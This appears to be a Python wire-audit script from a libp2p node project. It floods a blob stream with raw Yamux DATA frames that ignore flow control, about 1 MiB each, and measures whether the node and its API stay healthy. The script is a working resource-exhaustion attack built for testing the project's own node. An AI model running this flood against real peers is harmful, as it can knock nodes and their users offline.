"""A peer ignores Yamux flow control: MB DATA frames of 1 MiB on a blob stream the node answered.
`python scripts/wire_audit/yamux_overrun.py 300`"""
import struct
import sys
import time

from common import api_ok, attacker, main, measure

import trio
from libp2p.custom_types import TProtocol

from node.framing import pack, read_frame

MB = int(sys.argv[1]) if len(sys.argv) > 1 else 300


async def attack(node):
    async with attacker(node) as (host, target):
        stream = await host.new_stream(target.peer_id, [TProtocol("/swarm/blob/1.0.0")])
        await stream.write(pack({"sha256": "a" * 64, "from": 0}))
        print("reply", await read_frame(stream, timeout=10))
        muxed = stream.muxed_stream
        print("before", measure(node), flush=True)
        t0 = time.monotonic()
        for i in range(MB):
            header = struct.pack("!BBHII", 0, 0, 0, muxed.stream_id, 1 << 20)
            try:
                await muxed.conn._write_frame(header + bytes(1 << 20))
            except Exception as exc:  # noqa: BLE001
                print("cut off after", i, "MB:", type(exc).__name__)
                break
            if i % 100 == 99:
                print(i + 1, "MB sent", measure(node), "api", api_ok(node), flush=True)
        print("sent in", round(time.monotonic() - t0, 1), "s")
        await trio.sleep(3)
        print("after", measure(node), "api", api_ok(node), flush=True)


main(attack)
